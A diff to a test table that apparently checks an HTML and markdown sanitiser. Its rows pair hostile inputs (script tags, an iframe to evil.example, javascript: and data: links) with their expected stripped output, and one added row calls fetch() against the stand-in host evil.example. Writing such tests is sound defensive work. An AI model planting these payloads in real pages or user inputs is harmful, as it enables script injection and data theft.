@@ -8,7 +8,9 @@ test.each([
   ['A <script>alert(1)</script> tag', 'A alert(1) tag'],
   ['An open <iframe src="https://evil.example', 'An open '],
   ['<!-- hidden --> shown', ' shown'],
-  ['[click](javascript:alert(1)) me', 'click) me'],
+  ['[click](javascript:alert(1)) me', 'click me'],
+  ['[click](javascript:fetch("//evil.example", f(2))) me', 'click me'],
+  ['[click](javascript:alert(1 or not', 'click or not'],
   ['[click](data:text/html;base64,x) me', 'click me'],
   ['[pic]: https://evil.example/p.png', ''],
   [
